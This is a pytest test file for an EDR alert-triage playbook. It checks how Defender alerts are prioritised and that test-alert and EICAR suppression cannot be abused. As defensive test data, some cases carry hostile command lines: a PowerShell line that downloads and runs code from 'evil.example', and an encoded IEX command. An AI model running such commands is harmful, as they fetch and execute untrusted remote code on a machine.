"""The shipped default playbook, run over documented Defender payloads and synthetic alerts."""

from __future__ import annotations

import copy
import json
import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from signatures import (
    DOCUMENTED_COMMAND,
    EICAR_MD5,
    EICAR_SHA1,
    EICAR_SHA256,
    TEST_TITLE,
    reshaped,
)

from edrtrial.connectors.base import AlertRecord, DeviceRef
from edrtrial.connectors.defender.evidence import graph_evidence, mde_evidence
from edrtrial.playbooks import (
    AlertFacts,
    Decision,
    Playbook,
    checks,
    default_playbook_paths,
    load_playbooks,
)
from edrtrial.playbooks.checks import warnings
from edrtrial.timeutil import Stamp

FIXTURES = Path(__file__).parent / "fixtures"

# Outcomes as one comparable tuple:
# (priority, ticket, notify_desk, notify_company, suppressed_reason, verified, matched)
Outcome = tuple[str, bool, bool, bool, str | None, bool, tuple[str, ...]]


@pytest.fixture(scope="module")
def playbook() -> Playbook:
    return load_playbooks(default_playbook_paths())


def outcome(decision: Decision) -> Outcome:
    return (
        decision.priority,
        decision.ticket,
        decision.notify_desk,
        decision.notify_company,
        decision.suppressed_reason,
        decision.mark_device_verified,
        decision.matched,
    )


def payload(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def graph_record(alert: dict[str, Any]) -> AlertRecord:
    """A Graph alerts_v2 item as a record, enum values kept as sent (the engine folds case)."""
    devices = tuple(
        DeviceRef(item["mdeDeviceId"], item.get("deviceDnsName") or "")
        for item in alert.get("evidence", [])
        if item["@odata.type"].endswith(".deviceEvidence")
    )
    return AlertRecord(
        source_id=alert["id"],
        title=alert["title"],
        severity=alert["severity"],
        status=alert["status"],
        last_update_at=Stamp.from_iso(alert["lastUpdateDateTime"]),
        incident_source_id=alert.get("incidentId"),
        category=alert.get("category") or "",
        detection_source=alert.get("detectionSource") or "",
        service_source=alert.get("serviceSource") or "",
        mitre_techniques=tuple(alert.get("mitreTechniques") or ()),
        devices=devices,
        evidence=graph_evidence(alert.get("evidence") or ()),
        raw=alert,
    )


def mde_record(alert: dict[str, Any]) -> AlertRecord:
    """An MDE /api/alerts item as a record, PascalCase enum values kept as sent."""
    return AlertRecord(
        source_id=alert["id"],
        title=alert["title"],
        severity=alert["severity"],
        status=alert["status"],
        last_update_at=Stamp.from_iso(alert["lastUpdateTime"]),
        incident_source_id=str(alert["incidentId"]),
        category=alert.get("category") or "",
        detection_source=alert.get("detectionSource") or "",
        mitre_techniques=tuple(alert.get("mitreTechniques") or ()),
        devices=(DeviceRef(alert["machineId"], alert.get("computerDnsName") or ""),),
        evidence=mde_evidence(alert),
        raw=alert,
    )


def graph_alert() -> dict[str, Any]:
    return copy.deepcopy(payload("graph__list_alerts_v2.json")["value"][0])


def payload_cases() -> list[Any]:
    graph = graph_alert()
    incident_alert = payload("graph__list_incidents_expand_alerts.json")["value"][0]["alerts"][0]
    mde = payload("mde__list_alerts_default.json")["value"][0]
    low: Outcome = ("P3", True, False, False, None, False, ("low-severity",))
    test: Outcome = (
        "P4",
        False,
        False,
        False,
        "detection-test",
        True,
        ("onboarding-detection-test",),
    )
    return [
        pytest.param(graph_record(graph), low, id="graph-alerts_v2-low-defense-evasion"),
        pytest.param(graph_record(incident_alert), low, id="graph-incident-expanded-alert"),
        pytest.param(
            mde_record(mde),
            ("P1", True, True, True, None, False, ("hands-on-keyboard", "low-severity")),
            id="mde-meterpreter-low-is-hands-on-keyboard",
        ),
        pytest.param(
            graph_record(
                reshaped(
                    graph, title=TEST_TITLE, severity="informational", command=DOCUMENTED_COMMAND
                )
            ),
            test,
            id="graph-onboarding-test",
        ),
        pytest.param(
            mde_record(
                mde
                | {
                    "title": TEST_TITLE,
                    "severity": "Informational",
                    "category": "Execution",
                    "detectionSource": "WindowsDefenderAtp",
                    "mitreTechniques": ["T1059.001"],
                    "evidence": [
                        {"entityType": "Process", "processCommandLine": DOCUMENTED_COMMAND}
                    ],
                }
            ),
            test,
            id="mde-onboarding-test-pascalcase",
        ),
        pytest.param(
            graph_record(reshaped(graph, title=TEST_TITLE, severity="informational")),
            ("P4", False, False, False, None, False, ("informational",)),
            id="graph-test-title-without-the-test-command-is-not-the-test",
        ),
        pytest.param(
            graph_record(
                reshaped(graph, title="Suspicious PowerShell command line", severity="medium")
            ),
            ("P2", True, True, False, None, False, ("medium-severity",)),
            id="graph-medium-powershell-goes-to-the-desk",
        ),
        pytest.param(
            graph_record(
                reshaped(
                    graph,
                    title="Suspicious PowerShell command line",
                    severity="medium",
                    command=DOCUMENTED_COMMAND,
                )
            ),
            ("P2", True, True, False, None, False, ("medium-severity",)),
            id="graph-medium-companion-of-the-test-goes-to-the-desk",
        ),
        pytest.param(
            graph_record(
                reshaped(
                    graph,
                    title="'EICAR_Test_File' malware was prevented",
                    severity="informational",
                    category="Malware",
                    file_sha256=EICAR_SHA256,
                )
            ),
            ("P4", False, False, False, "test-file", True, ("security-test-file",)),
            id="graph-eicar-file-by-its-hash",
        ),
        pytest.param(
            graph_record(
                reshaped(
                    graph,
                    title="Credential theft: 'eicar' read LSASS memory",
                    severity="high",
                    category="CredentialAccess",
                )
            ),
            ("P1", True, True, True, None, False, ("credential-theft", "high-severity")),
            id="graph-eicar-in-a-high-credential-theft-title-is-not-a-test",
        ),
    ]


@pytest.mark.parametrize(("record", "expected"), payload_cases())
def test_documented_payloads(playbook: Playbook, record: AlertRecord, expected: Outcome) -> None:
    facts = AlertFacts.from_record(record, company_key="acme-kogyo", business_hours=False)
    assert outcome(playbook.evaluate(facts)) == expected


def test_facts_from_record_carry_devices_incident_and_techniques() -> None:
    record = graph_record(graph_alert())
    doubled = AlertRecord(
        **{name: getattr(record, name) for name in AlertRecord.__dataclass_fields__}
        | {"devices": (*record.devices, DeviceRef("x", ""), record.devices[0])}
    )
    facts = AlertFacts.from_record(doubled, company_key="acme-kogyo", business_hours=True)
    assert facts.device_names == ("tempDns",)  # nameless and repeated evidence dropped
    assert facts.incident_id == "28282"
    assert facts.mitre_techniques == ("T1564.001",)
    assert (facts.company_key, facts.business_hours) == ("acme-kogyo", True)
    assert (facts.severity, facts.category, facts.service_source) == (
        "low",
        "DefenseEvasion",
        "microsoftDefenderForEndpoint",
    )


# Any other file's sha256 (of the text "test"): not the EICAR file.
TROJAN_SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
P1_ALL: Outcome = ("P1", True, True, True, None, False, ())


def synthetic_cases() -> list[Any]:
    """(facts overrides, expected outcome) for each kind of alert the programme sees."""

    def case(name: str, facts: dict[str, Any], expected: Outcome, matched: tuple[str, ...]) -> Any:
        return pytest.param(facts, (*expected[:6], matched), id=name)

    test = ("P4", False, False, False, "detection-test", True, ())
    test_file = ("P4", False, False, False, "test-file", True, ())
    p2_desk = ("P2", True, True, False, None, False, ())
    p3 = ("P3", True, False, False, None, False, ())
    p4 = ("P4", False, False, False, None, False, ())
    return [
        case(
            "test-alert",
            dict(
                title="[Test Alert] Suspicious Powershell commandline",
                severity="Informational",
                detection_source="MicrosoftDefenderForEndpoint",
                mitre_techniques=("T1059.001",),
                command_lines=(DOCUMENTED_COMMAND,),
            ),
            test,
            ("onboarding-detection-test",),
        ),
        case(
            "test-alert-without-its-prefix-is-known-by-its-command",
            dict(
                title="Suspicious Powershell commandline",
                severity="informational",
                detection_source="microsoftDefenderForEndpoint",
                command_lines=(DOCUMENTED_COMMAND,),
            ),
            test,
            ("onboarding-detection-test",),
        ),
        case(
            "test-command-beside-another-process-is-not-the-test",
            dict(
                title="[Test Alert] Suspicious Powershell commandline",
                severity="informational",
                detection_source="microsoftDefenderForEndpoint",
                command_lines=(DOCUMENTED_COMMAND, "powershell.exe -enc SQBFAFgAIAAoAGkAdwByACkA"),
            ),
            p4,
            ("informational",),
        ),
        case(
            "test-title-without-the-command-is-report-only",
            dict(title="[Test Alert] Suspicious Powershell commandline", severity="Informational"),
            p4,
            ("informational",),
        ),
        case(
            "test-command-with-more-appended-is-not-the-test",
            dict(
                title="[Test Alert] Suspicious Powershell commandline",
                severity="Informational",
                detection_source="microsoftDefenderForEndpoint",
                command_lines=(DOCUMENTED_COMMAND + ";IEX (iwr https://evil.example/a)",),
            ),
            p4,
            ("informational",),
        ),
        case(
            "test-command-from-a-custom-detection-is-not-the-test",
            dict(
                title="[Test Alert] Suspicious Powershell commandline",
                severity="Informational",
                detection_source="customDetection",
                command_lines=(DOCUMENTED_COMMAND,),
            ),
            p4,
            ("informational",),
        ),
        case(
            "test-title-at-medium-goes-to-the-desk",
            dict(
                title="[Test Alert] Suspicious Powershell commandline",
                severity="Medium",
                detection_source="microsoftDefenderForEndpoint",
                command_lines=(DOCUMENTED_COMMAND,),
            ),
            p2_desk,
            ("medium-severity",),
        ),
        case(
            "eicar",
            dict(
                title="'EICAR_Test_File' malware was prevented",
                severity="Informational",
                category="Malware",
                file_hashes=(EICAR_SHA1, EICAR_SHA256),
            ),
            test_file,
            ("security-test-file",),
        ),
        case(
            "eicar-by-md5-at-low",
            dict(
                title="Virus:DOS/EICAR_Test_File",
                severity="Low",
                category="Malware",
                file_hashes=(EICAR_MD5,),
            ),
            ("P3", *test_file[1:]),
            ("security-test-file",),
        ),
        case(
            "eicar-beside-a-trojan-is-not-a-test",
            dict(
                title="'EICAR_Test_File' malware was detected",
                severity="Low",
                category="Malware",
                detection_source="antivirus",
                file_hashes=(EICAR_SHA256, TROJAN_SHA256),
            ),
            p3,
            ("low-severity",),
        ),
        case(
            "eicar-title-without-the-file-is-not-a-test",
            dict(title="'EICAR_Test_File' malware was prevented", severity="Low"),
            p3,
            ("low-severity",),
        ),
        case(
            "eicar-file-in-a-high-alert-is-not-a-test",
            dict(
                title="EICAR test file detected",
                severity="High",
                category="Malware",
                file_hashes=(EICAR_SHA256,),
            ),
            P1_ALL,
            ("high-severity",),
        ),
        case(
            "eicar-in-a-high-credential-theft-title",
            dict(
                title="Credential theft: 'eicar' dumped LSASS",
                severity="High",
                category="CredentialAccess",
            ),
            P1_ALL,
            ("credential-theft", "high-severity"),
        ),
        case(
            "ransomware-category",
            dict(title="Ransomware behavior detected", severity="Medium", category="Ransomware"),
            P1_ALL,
            ("ransomware-category", "medium-severity"),
        ),
        case(
            "ransomware-t1486",
            dict(
                title="File encryption",
                severity="Low",
                category="Impact",
                mitre_techniques=("T1486",),
            ),
            P1_ALL,
            ("ransomware-technique", "low-severity"),
        ),
        case(
            "ransomware-t1490-shadow-copies",
            dict(
                title="Shadow copy deletion", severity="informational", mitre_techniques=("T1490",)
            ),
            P1_ALL,
            ("ransomware-technique", "informational"),
        ),
        case(
            "credential-access-low",
            dict(title="Suspicious access to LSASS", severity="Low", category="CredentialAccess"),
            P1_ALL,
            ("credential-theft", "low-severity"),
        ),
        case(
            "t1003-sub-technique",
            dict(
                title="Credential dumping",
                severity="Informational",
                category="Execution",
                mitre_techniques=("T1003.001",),
            ),
            P1_ALL,
            ("credential-dumping", "informational"),
        ),
        case(
            "lateral-movement",
            dict(title="PsExec to another device", severity="Medium", category="LateralMovement"),
            P1_ALL,
            ("lateral-movement", "medium-severity"),
        ),
        case(
            "hands-on-keyboard",
            dict(title="Ongoing hands-on-keyboard attack via Impacket", severity="Medium"),
            P1_ALL,
            ("hands-on-keyboard", "medium-severity"),
        ),
        case(
            "cobaltstrike-one-word",
            dict(title="'CobaltStrike' backdoor was prevented", severity="Low", category="Malware"),
            P1_ALL,
            ("hands-on-keyboard", "low-severity"),
        ),
        case(
            "high",
            dict(title="Suspicious process injection", severity="High", category="DefenseEvasion"),
            P1_ALL,
            ("high-severity",),
        ),
        case(
            "phishing",
            dict(
                title="A user clicked a phishing link",
                severity="Low",
                category="InitialAccess",
                mitre_techniques=("T1566.002",),
            ),
            p2_desk,
            ("phishing", "low-severity"),
        ),
        case(
            "initial-access-without-t1566-is-not-phishing",
            dict(
                title="Exploit of public app",
                severity="Low",
                category="InitialAccess",
                mitre_techniques=("T1190",),
            ),
            p3,
            ("low-severity",),
        ),
        case(
            "t1566-outside-initial-access-is-not-phishing",
            dict(
                title="Macro ran",
                severity="Low",
                category="Execution",
                mitre_techniques=("T1566.001",),
            ),
            p3,
            ("low-severity",),
        ),
        case(
            "medium",
            dict(title="Suspicious scheduled task", severity="Medium", category="Persistence"),
            p2_desk,
            ("medium-severity",),
        ),
        case(
            "unwanted-title-low",
            dict(title="'Presenoker' potentially unwanted application", severity="Low"),
            p3,
            ("unwanted-software-title", "low-severity"),
        ),
        case(
            "unwanted-category-informational",
            dict(title="Bundler detected", severity="Informational", category="UnwantedSoftware"),
            p3,
            ("unwanted-software-category", "informational"),
        ),
        case(
            "unwanted-at-medium-keeps-medium-rule",
            dict(title="Adware", severity="Medium", category="UnwantedSoftware"),
            p2_desk,
            ("medium-severity", "unwanted-software-category"),
        ),
        case(
            "low",
            dict(title="Suspicious file dropped", severity="Low", category="Malware"),
            p3,
            ("low-severity",),
        ),
        case(
            "informational",
            dict(title="Suspicious connection", severity="Informational"),
            p4,
            ("informational",),
        ),
        case("unspecified-severity-falls-back", dict(title="Odd", severity="UnSpecified"), p4, ()),
        case("unknown-future-value", dict(title="Odd", severity="unknownFutureValue"), p4, ()),
    ]


@pytest.mark.parametrize(("overrides", "expected"), synthetic_cases())
def test_default_playbook_decisions(
    playbook: Playbook, overrides: dict[str, Any], expected: Outcome
) -> None:
    base: dict[str, Any] = {"company_key": "acme-kogyo", "business_hours": True}
    facts = AlertFacts(**(base | overrides))
    assert outcome(playbook.evaluate(facts)) == expected


@pytest.mark.parametrize(
    ("severity", "category", "mitre"),
    [
        ("High", "CredentialAccess", "T1003.001"),  # MDE
        ("high", "credentialAccess", "t1003.001"),  # Graph, careless casing
        ("HIGH", "CREDENTIALACCESS", " T1003.001 "),
    ],
)
def test_case_and_spacing_do_not_change_decisions(
    playbook: Playbook, severity: str, category: str, mitre: str
) -> None:
    facts = AlertFacts(
        title="Credential theft",
        severity=severity,
        category=category,
        mitre_techniques=(mitre,),
        company_key="acme-kogyo",
        business_hours=False,
    )
    assert playbook.evaluate(facts).matched == (
        "credential-theft",
        "credential-dumping",
        "high-severity",
    )


def test_every_shipped_playbook_file_loads_and_is_found() -> None:
    paths = default_playbook_paths()
    assert [p.name for p in paths] == sorted(p.name for p in paths)
    assert "default.toml" in [p.name for p in paths]
    for path in paths:
        assert load_playbooks([path]).rules, f"{path} has no rules"


def test_default_rules_run_in_the_programmes_order(playbook: Playbook) -> None:
    names = [rule.name for rule in playbook.rules]
    order = [
        "onboarding-detection-test",
        "security-test-file",
        "ransomware-category",
        "credential-theft",
        "high-severity",
        "phishing",
        "medium-severity",
        "unwanted-software-title",
        "low-severity",
        "informational",
    ]
    assert [n for n in names if n in order] == order


def test_every_shipped_rule_says_why() -> None:
    for path in default_playbook_paths():
        text = path.read_text(encoding="utf-8")
        for rule in tomllib.loads(text)["rules"]:
            assert rule.get("description"), f"{path}: rule {rule['name']} has no description"
        lines = text.splitlines()
        for number, line in enumerate(lines[1:], start=1):
            if line.strip() == "[[rules]]":
                assert lines[number - 1].startswith("#"), f"{path}:{number + 1}: no comment"


_SEVERITIES = st.sampled_from(["High", "medium", "Low", "informational", "UnSpecified", ""])
_TITLES = st.sampled_from(
    [
        "[Test Alert] Suspicious Powershell commandline",
        "Suspicious Powershell commandline",
        "'EICAR_Test_File' malware was detected",
        "Ransomware behavior",
        "Mimikatz",
        "Adware",
        "potentially unwanted app",
        "Suspicious process",
    ]
)
_CATEGORIES = st.sampled_from(
    [
        "",
        "Ransomware",
        "CredentialAccess",
        "InitialAccess",
        "UnwantedSoftware",
        "Execution",
        "LateralMovement",
    ]
)
_TECHNIQUES = st.lists(
    st.sampled_from(["T1486", "T1003.001", "T1566.001", "T1059.001"]), max_size=3
).map(tuple)


@settings(max_examples=300, deadline=None)
@given(
    title=_TITLES,
    severity=_SEVERITIES,
    category=_CATEGORIES,
    mitre=_TECHNIQUES,
    hours=st.booleans(),
)
def test_suppressed_alerts_never_ticket_or_notify(
    playbook: Playbook,
    title: str,
    severity: str,
    category: str,
    mitre: tuple[str, ...],
    hours: bool,
) -> None:
    facts = AlertFacts(
        title=title,
        severity=severity,
        category=category,
        mitre_techniques=mitre,
        company_key="acme-kogyo",
        business_hours=hours,
    )
    decision = playbook.evaluate(facts)
    assert decision == playbook.evaluate(facts)  # pure: same facts, same decision
    if decision.suppressed_reason is not None:
        assert not (decision.ticket or decision.notify_desk or decision.notify_company)
    if decision.notify_desk or decision.notify_company:
        assert decision.ticket  # nobody is told about something the desk has no ticket for


def test_the_shipped_table_suppresses_nothing_on_free_text_alone() -> None:
    for path in default_playbook_paths():
        assert warnings(load_playbooks([path])) == [], path


def test_the_shipped_detection_test_regex_counts_as_anchored(playbook: Playbook) -> None:
    [rule] = [r for r in playbook.rules if r.name == "onboarding-detection-test"]
    assert checks.evidence_anchored(rule)


def test_the_detection_test_is_powershell_from_windows_own_folder_only(
    playbook: Playbook,
) -> None:
    """A program of the attacker's named powershell.exe, given the documented arguments,
    is not Windows PowerShell running the test."""
    arguments = DOCUMENTED_COMMAND.removeprefix("powershell.exe ")
    windows = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
    theirs = "C:\\Users\\Public\\powershell.exe "

    def decided(command: str) -> str | None:
        facts = AlertFacts(
            title="[Test Alert] Suspicious Powershell commandline",
            severity="informational",
            detection_source="microsoftDefenderForEndpoint",
            command_lines=(command,),
            company_key="acme-kogyo",
            business_hours=False,
        )
        return playbook.evaluate(facts).suppressed_reason

    assert decided(windows + arguments) == "detection-test"
    assert decided(theirs + arguments) is None


# A rule aimed at one company: the company only narrows whose alerts the attacker's word hides.
COMPANY_PINNED = """
[[rules]]
name = "sakura-eicar-drill"
description = "Sakura runs EICAR drills."
company = "sakura"
title = "eicar"
suppress = "known-drill"
"""
# No suppression, but no ticket either: nothing reaches the desk.
SILENCED = """
[[rules]]
name = "quiet-eicar"
description = "EICAR drills need nobody."
title = "eicar"
ticket = false
notify_desk = false
notify_company = false
stop = true
"""
# The same through the engine's defaults: `stop` leaves ticket to [defaults] (false).
STOPPED = """
[[rules]]
name = "quiet-eicar"
title = "eicar"
priority = "P4"
stop = true
"""
# As the first writer of `ticket`, later rules' notify_desk cannot bring the alert back.
FIRST_WRITER = """
[[rules]]
name = "quiet-eicar"
title = "eicar"
ticket = false
"""
HIGH_EICAR_CREDENTIAL_THEFT = AlertFacts(
    title="eicar: credential theft from LSASS",
    severity="high",
    category="CredentialAccess",
    mitre_techniques=("T1003.001",),
    company_key="sakura",
    business_hours=False,
)


@pytest.mark.parametrize(
    "text",
    [COMPANY_PINNED, SILENCED, STOPPED, FIRST_WRITER],
    ids=["company-pinned", "no-ticket-no-notice", "stop-with-default-no-ticket", "first-writer"],
)
def test_a_rule_that_hides_a_high_alert_on_its_title_is_warned_about(
    tmp_path: Path, text: str
) -> None:
    custom = tmp_path / "site.toml"
    custom.write_text(text, encoding="utf-8")
    decision = load_playbooks([custom, *default_playbook_paths()]).evaluate(
        HIGH_EICAR_CREDENTIAL_THEFT
    )
    assert decision.suppressed_reason is not None or not decision.ticket  # off the desk…
    [warning] = warnings(load_playbooks([custom]))  # …so check says so
    assert warning.rule in ("sakura-eicar-drill", "quiet-eicar")
    assert "title" in warning.message and "alone" in warning.message


@pytest.mark.parametrize(
    "guard",
    [
        'severity = ["low", "informational"]',
        'every_file_hash = "44d88612fea8a8f36de82e1278abb02f"',
        r"command_line_regex = '^eicar\.exe$'",
        r"every_command_line_regex = '''(?x) \A eicar\.exe \Z'''",
    ],
)
def test_a_rule_hiding_alerts_only_on_evidence_or_minor_severity_is_not_warned_about(
    tmp_path: Path, guard: str
) -> None:
    for text in (COMPANY_PINNED, SILENCED):
        custom = tmp_path / "site.toml"
        custom.write_text(text + guard + "\n", encoding="utf-8")
        assert warnings(load_playbooks([custom])) == [], (text, guard)


@pytest.mark.parametrize(
    "guard",
    [
        'tenant = "5f1b2c3d-0000-4a6b-8c7d-0e1f2a3b4c01"',
        'device_tag = "eicar-lab"',
        r"command_line_regex = 'eicar\.exe$'",  # anything may come before it
        "command_line_regex = '^eicar|drill$'",  # each alternative is pinned at one end only
        "command_line_regex = '(?m)^eicar$'",  # one line of the command line, not all of it
        "command_line_regex = '^.*eicar.*$'",  # anchored, but any command naming eicar
        "every_command_line_regex = '(?:^.*$)'",  # every command line at all
        "every_command_line_regex = '^(?:eicar|.)+$'",  # a broad run inside a group
        "every_command_line_regex = '^[a-z]+\\.exe$'",  # any program's name
        'file_hash = "44d88612fea8a8f36de82e1278abb02f"',  # EICAR's hash beside a trojan's
        'severity = ["low", "medium"]',
    ],
)
def test_a_rule_hiding_alerts_behind_scope_or_a_loose_regex_is_warned_about(
    tmp_path: Path, guard: str
) -> None:
    for text in (COMPANY_PINNED, SILENCED):
        custom = tmp_path / "site.toml"
        custom.write_text(text + guard + "\n", encoding="utf-8")
        assert len(warnings(load_playbooks([custom]))) == 1, (text, guard)


def test_a_rule_that_keeps_the_ticket_or_leaves_it_to_later_rules_is_not_warned_about(
    tmp_path: Path,
) -> None:
    custom = tmp_path / "site.toml"
    custom.write_text(
        '[[rules]]\nname = "a"\ntitle = "eicar"\nticket = true\nnotify_desk = false\n'
        '[[rules]]\nname = "b"\ntitle = "drill"\npriority = "P3"\n',
        encoding="utf-8",
    )
    assert warnings(load_playbooks([custom])) == []


_WORDS = st.sampled_from(
    ["[Test Alert]", "eicar", "EICAR_Test_File", "amtso", "test", "Suspicious PowerShell", "x"]
)


@settings(max_examples=300, deadline=None)
@given(
    words=st.lists(_WORDS, min_size=1, max_size=4),
    severity=st.sampled_from(["High", "medium", "MEDIUM", "high"]),
    category=_CATEGORIES,
    source=st.sampled_from(["microsoftDefenderForEndpoint", "antivirus", "customDetection"]),
    mitre=_TECHNIQUES,
)
def test_no_words_in_a_medium_or_high_alert_make_it_disappear(
    playbook: Playbook,
    words: list[str],
    severity: str,
    category: str,
    source: str,
    mitre: tuple[str, ...],
) -> None:
    title = " ".join(words)
    facts = AlertFacts(
        title=title,
        severity=severity,
        category=category,
        detection_source=source,
        mitre_techniques=mitre,
        command_lines=(f"powershell.exe -c {title}",),
        file_hashes=(EICAR_SHA256,),
        company_key="acme-kogyo",
        business_hours=False,
    )
    decision = playbook.evaluate(facts)
    assert decision.suppressed_reason is None
    assert decision.ticket and decision.notify_desk and not decision.mark_device_verified
